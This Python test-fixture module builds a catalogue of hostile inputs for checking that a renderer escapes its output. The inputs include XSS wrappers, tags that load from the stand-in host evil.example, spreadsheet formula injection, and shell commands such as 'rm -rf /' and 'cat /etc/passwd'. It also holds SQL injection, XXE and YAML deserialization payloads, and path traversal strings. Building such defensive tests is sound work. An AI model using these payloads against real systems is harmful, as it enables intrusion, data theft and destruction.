"""Texts that try to run, to load, to leave their field, or to be read as something else."""

from __future__ import annotations

import json
from pathlib import Path

from practice.rendering.shell import MARK

NAUGHTY: list[str] = json.loads(
    (Path(__file__).parent / "corpora" / "blns" / "blns.json").read_text("utf-8")
)
HOST = "evil.example"
"""Where payloads lead: nothing may ask for anything there."""
SCRIPTS = (
    "alert(1)",
    f"fetch('//{HOST}/')",
    "document.forms[0].action='x'",
)
WRAPPED = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "' onfocus={} autofocus='",
    '" onfocus={} autofocus="',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<details open ontoggle={}>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "[a](javascript:{})",
    "[a](JaVaScRiPt&colon;{})",
    "[a](data:text/html,<script>{}</script>)",
    "[a][b]\n\n[b]: javascript:{}",
    "<javascript:{}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "${{{}}}",
    "{{{{ {} }}}}",
    "{{% set x = {} %}}",
    "`${{{}}}`",
    "');{};//",
    '");{};//',
    "\\');{};//",
)
LOADING = (
    f"<iframe src=//{HOST}/></iframe>",
    f"<img src=https://{HOST}/x.png>",
    f"![x](https://{HOST}/x.png)",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/>",
    f"<form action=https://{HOST}/><button>Go</button></form>",
    f"<style>@import '//{HOST}/x.css'</style>",
    f"<p style=background:url(//{HOST}/x)>x</p>",
    f"<object data=//{HOST}/></object>",
    f"[x](//{HOST}/)",
    f"[x](\\\\{HOST}\\)",
    f"url(//{HOST}/x)",
)
FORMATS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/","Click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "%0ASet-Cookie: a=b",
    "a\r\nTY  - BOOK\r\nTI  - Injected",
    "ER  - ",
    "TI  - Injected",
    "@book{injected, title={Injected}}",
    "}, author = {Injected",
    "{\\input{/etc/passwd}}",
    "\\write18{id}",
    "\\def\\x{\\x}\\x",
    "#eval(read(sys.inputs))",
    '#include "/etc/passwd"',
    "$ integral_0^1 $ #{panic()} *bold* _em_ @ref <label>",
    "\\u{202e}",
    "BEGIN:VEVENT",
    "X;Y:Z,W\\n",
    "END:VCALENDAR\nBEGIN:VCALENDAR",
    "$(id)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& echo 1",
    "'; DROP TABLE examples; --",
    '" OR "1"="1',
    "!!python/object/apply:os.system ['id']",
    "&anchor *alias",
    "<<: *a",
    "{a: b, c: [d]}",
    "- - - x",
    "key: value # comment",
    '{"__proto__": {"a": 1}}',
    "__proto__",
    "constructor",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "%s%n%x%d",
    "{0.__class__.__mro__}",
    "&amp;amp; &lt; &quot; &#x27; &nbsp; &bogus; &#0; &#x110000;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "]]>]]&gt;",
    "<w:t>x</w:t>",
    "_x000D_ _x0041_",
    "<r>a & b</r>",
    "<!-- practice:examples limit=3 -->",
    "<!-- practice:contact -->",
    "::add-mask::x",
    "::error file=a::x",
    "[[wiki]] ~~strike~~ ==mark== [^1] :smile:",
    "{: onclick=alert(1) }",
    "{#rights}",
    "***",
    "|a|b|\n|-|-|\n|1|2|",
)
SIGNS = (
    "\u202egnp.exe",
    "\u2066abc\u2069",
    "a\u0000b",
    "a\u0008b",
    "a\u001b[31mb",
    "a\u200bb",
    "a\ufeffb",
    "a\ud800b",
    "a\ufffeb",
    "a\U000e0041b",
    "שלום עולם and مرحبا",
    "日本語 한국어 ไทย हिन्दी",
    "👩‍👩‍👧 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ❤️",
    "Z̸̡̲͎a̷̢͓l̶g̵o",
    "ŵŷ Ŵ ẁ À é ñ ﬁ ſ ß İ ı",
    "a\u2028b",
    "a\u0085b",
    "a\tb",
    "’ “ ” « » ‹ › — … · • ½ ² € £ §",
    "' \" \\ / ` ´",
    "< > & < >",
    "x" * 90,
)
MARKS = tuple(MARK.format(name) for name in ("body", "title", "head", "policy", "description"))
"""Marks of slots, as a shell has them."""


def payloads() -> list[str]:
    """Every text once: those of the corpus, and every trick with every script."""
    wrapped = (wrap.format(script) for script in SCRIPTS for wrap in WRAPPED)
    return list(dict.fromkeys((*wrapped, *LOADING, *FORMATS, *SIGNS, *MARKS, *NAUGHTY)))
